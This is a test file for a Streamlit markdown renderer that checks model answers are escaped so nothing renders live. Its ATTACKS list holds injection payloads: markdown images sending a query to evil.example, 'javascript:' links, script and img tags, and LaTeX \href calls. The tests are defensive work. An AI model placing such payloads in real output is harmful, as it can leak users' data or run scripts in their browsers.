"""What `ui.render` lets through. Oracles: values by hand, and a CommonMark parser that must find nothing alive in what comes out."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from payloads import PAYLOADS
from rag.types import Mode, Sentence, Support
from ui import render

J = render.JOINER

LATE_RULES = [
    re.compile(r":[\w+-]+:"),
    re.compile(r"https?://|www\.", re.IGNORECASE),
    re.compile(r"[-.\w+]@[-\w]+\.[-\w]"),
]
"""What Streamlit's page looks for in parsed text, where a backslash no longer protects: icons, emoji, links, mail addresses."""

ATTACKS = [
    "![x](https://evil.example/?q=secret)",
    "[click](https://evil.example)",
    "[click](javascript:alert(1))",
    "<img src=https://evil.example/a.png>",
    "<script>alert(1)</script>",
    "<https://evil.example>",
    "https://evil.example/?q=1 and www.evil.example and a@evil.example",
    "[ref]: https://evil.example\n\n![a][ref]",
    ":red[danger] :material/delete: :material_delete: :streamlit: :smile: :100:",
    ":gray[`]`![x](https://evil.example/x.png)]",
    "`a`` ![x](https://evil.example/x.png)",
    "$a ![x](https://evil.example/x.png) b$",
    "$[click](https://evil.example)$",
    "$\\href{https://evil.example}{x}$ and $\\includegraphics{https://evil.example/x.png}$",
    "```mermaid\ngraph TD; A-->B\n```",
    "    ![x](https://evil.example/x.png)",
    "&lt;img src=x&gt; &#33;[x](https://evil.example/y.png)",
    "**![x](https://evil.example/x.png)**",
    "| a | b |\n| - | - |\n| ![x](https://evil.example/x.png) | <b>c</b> |",
    "[^1]\n\n[^1]: ![x](https://evil.example/x.png)",
    "# ![x](https://evil.example/x.png)",
    "> quote\n- list\n1. item\n---\n***",
    "\u202ereversed\u202c",
]


def tokens(markdown: str) -> list[Token]:
    """Every token that a CommonMark parser with tables makes of the text, the inner ones included."""
    flat: list[Token] = []
    for token in MarkdownIt("commonmark").enable(["table", "strikethrough"]).parse(markdown):
        flat += [token, *(token.children or [])]
    return flat


def shown(markdown: str) -> str:
    """The text a reader sees, formulas as they are written."""
    return "".join(
        token.content if token.type in ("text", "code_inline", "text_special") else "\n" * token.type.endswith("break")
        for token in tokens(markdown)
    )


def assert_inert(markdown: str) -> None:
    """No picture, link, HTML, table or fence; outside formulas nothing that the page itself would turn into an icon or a link."""
    kinds = {token.type for token in tokens(markdown)}
    assert not kinds & {"image", "link_open", "html_block", "html_inline", "fence", "table_open"}, (kinds, markdown)
    for token in tokens(markdown):
        if token.type == "inline":
            text = "".join(child.content for child in token.children or [] if child.type in ("text", "text_special"))
            for rule in LATE_RULES:
                assert not rule.search(without_own_directives(text)), (rule.pattern, text)


def without_own_directives(text: str) -> str:
    return re.sub(r":(?:primary|gray|yellow-background)\[", "[", text)


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize(
    "render_text",
    [render.escape, render.label, render.rich, lambda text: render.rich(text, "gray"), lambda text: render.marked(text, text[3:20])],
    ids=["escape", "label", "rich", "muted", "marked"],
)
def test_attacks_stay_text(attack, render_text):
    for end in range(1, len(attack) + 1):
        assert_inert(render_text(attack[:end]))


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("mode", Mode)
def test_attacks_stay_text_in_answers_and_at_every_streamed_prefix(attack, mode):
    written = [Sentence(attack, Support.WEAK, (1,))]
    for end in range(len(attack) + 1):
        assert_inert(render.sentences(written, mode, attack[:end]))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payloads_stay_text_at_every_prefix_of_a_draft_and_everywhere_when_whole(payload):
    for end in range(len(payload) + 1):
        assert_inert(render.sentences([], Mode.GENERATED, payload[:end]))
    for mode in Mode:
        assert_inert(render.sentences([Sentence(payload, Support.WEAK, (1,))], mode, payload))
    for shown_text in (render.label(payload), render.label(payload, 40), render.rich(payload), render.marked(payload, payload[3:20])):
        assert_inert(shown_text)


PIECES = st.sampled_from(
    [
        "![",
        "](",
        ")",
        "[",
        "]",
        "<",
        "img src=",
        ">",
        "`",
        "``",
        "$",
        "$$",
        "\\",
        "\\(",
        "\\)",
        "\\[",
        "\\]",
        ":",
        ":red[",
        "material/home",
        "**",
    ]
)
TEXTS = st.lists(
    PIECES
    | st.sampled_from(
        ["http://a.example", "www.a.example", "a@b.example", "smile", "x", " ", "\n", "\n\n", "- ", "1. ", "# ", "|", "    ", "\t"]
    )
    | st.text(max_size=4),
    max_size=14,
).map("".join)


@given(TEXTS)
def test_nothing_lives_in_whatever_text(text):
    for result in (render.label(text), render.rich(text), render.rich(text, "gray"), render.marked(text, text[2:9])):
        assert_inert(result)


@given(TEXTS)
def test_a_label_reads_as_it_was_written(text):
    written = render._CONTROLS.sub("", " ".join(text.split())).replace(J, "")
    assert shown(render.label(text, longest=10**6)).replace(J, "").split() == written.split()


@given(TEXTS)
def test_pieces_lose_nothing(text):
    found = render.pieces(text)
    assert "".join(text[piece.start : piece.end] for piece in found) == text


@given(TEXTS)
def test_every_dollar_that_is_no_formula_is_escaped(text):
    outside = "".join(piece.content for piece in render.pieces(text) if piece.kind is render.Kind.TEXT)
    assert not re.search(r"(?<!\\)\$", render.escape(outside))


# --- money and mathematics


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("costs $5 and $10", r"costs \$5 and \$10"),
        ("$5, not US$6", r"\$5\, not US\$6"),
        ("between $5/$10", r"between \$5\/\$10"),
        ("pay $5 now (or 7$)", r"pay \$5 now \(or 7\$\)"),
        ("echo $HOME:$PATH", r"echo \$HOME\:\$PATH"),
        ("$$5 and $$10", r"\$\$5 and \$\$10"),
        ("the mass $m$", r"the mass $m$"),
        ("$E = mc^2$", r"$E = mc^2$"),
        ("$12 \\times 64$ heads", r"$12 \times 64$ heads"),
        ("$d_k$-dimensional", r"$d_k$\-dimensional"),
        ("$a<b$", r"$a\lt b$"),
        (r"\(x_1\) is", r"$x_1$ is"),
        (r"$\text{softmax}(QK^T)$", r"$\text{softmax}(QK^T)$"),
        (r"$\href{x}{y}$", r"\$\\href\{x\}\{y\}\$"),
        ("half a formula $x + ", r"half a formula \$x \+"),
    ],
)
def test_formulas_are_kept_and_prices_stay_prices(text, expected):
    assert render.rich(text) == expected


def test_a_display_formula_stands_on_lines_of_its_own():
    assert render.rich("so $$a\n+ b$$ holds") == "so\n\n$$\na + b\n$$\n\nholds"
    assert render.rich(r"so \[a + b\] holds") == "so\n\n$$\na + b\n$$\n\nholds"


# --- what is shown of markup


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("use `x[0]` here", "use `x[0]` here"),
        ("a **bold** word", "a **bold** word"),
        ("## 2.1 Why?", r"**2\.1 Why\?**"),
        ("one\ntwo", "one\\\ntwo"),
        ("one\n\ntwo", "one\n\ntwo"),
        ("see [the notes](https://a.example/b)", r"see the notes \(a\.example\)"),
        ("![a chart](https://a.example/b.png)", r"image\: a chart \(a\.example\)"),
        ("https://a.example", rf"https\:{J}\/\/a\.example"),
        ("www.a.example", rf"www{J}\.a\.example"),
        (":material/home:", r"\:material\/home\:"),
        (":smile:", rf"\:{J}smile\:"),
        ("<b>", r"\<b\>"),
    ],
)
def test_rich_text(text, expected):
    assert render.rich(text) == expected


def test_a_label_is_one_short_line():
    assert render.label("a\n\nb  `c`") == r"a b \`c\`"
    assert render.label("abcdef", longest=4) == "abc…"


def test_marked_text_highlights_the_quote_whatever_its_white_space():
    assert render.marked("One two\nthree four.", "two three") == "One :yellow-background[two]\\\n:yellow-background[three] four\\."
    assert render.marked("One two.", "six") == "One two\\."


def test_marked_text_leaves_formulas_out_of_the_highlight():
    assert render.marked("so $x[$ is", "so $x[$ is") == ":yellow-background[so] $x[$ :yellow-background[is]"


# --- answers


def test_sentences_carry_numbers_and_weak_ones_say_so():
    written = [Sentence("A is B.", Support.SUPPORTED, (1,)), Sentence("C [2].", Support.WEAK, (2, 3))]
    assert render.sentences(written, Mode.GENERATED) == (
        r"A is B\. :primary[\[1\]] C \[2\]\. :orange[*\(partly supported\)*] :primary[\[2\]] :primary[\[3\]]"
    )


def test_unsupported_sentences_say_so_and_quotations_stand_by_themselves():
    written = [Sentence("A.", Support.UNSUPPORTED), Sentence("B.", Support.SUPPORTED, (1,), quoted=True)]
    assert render.sentences(written, Mode.GENERATED) == "A\\. :red[*\\(not held by the materials\\)*]\n\n> B\\. :primary[\\[1\\]]"


def test_a_draft_is_muted_and_follows_the_checked_sentences():
    written = [Sentence("A is B.", Support.SUPPORTED, (1,))]
    assert render.sentences(written, Mode.GENERATED, "And $c") == r"A is B\. :primary[\[1\]] :gray[And \$c]"
    assert render.sentences([], Mode.GENERATED, "  ") == ""


def test_list_items_become_a_list():
    written = [Sentence("Two kinds:", Support.SUPPORTED), Sentence("- one", Support.SUPPORTED, (1,)), Sentence("2) two", Support.SUPPORTED)]
    assert render.sentences(written, Mode.GENERATED) == "Two kinds\\:\n\n- one :primary[\\[1\\]]\n\n2. two"


def test_quotations_stand_apart():
    written = [Sentence("One\ntwo.", Support.SUPPORTED, (1,)), Sentence("- three", Support.SUPPORTED, (2,))]
    assert render.sentences(written, Mode.EXTRACTIVE) == "> One\\\n> two\\. :primary[\\[1\\]]\n\n> \\- three :primary[\\[2\\]]"
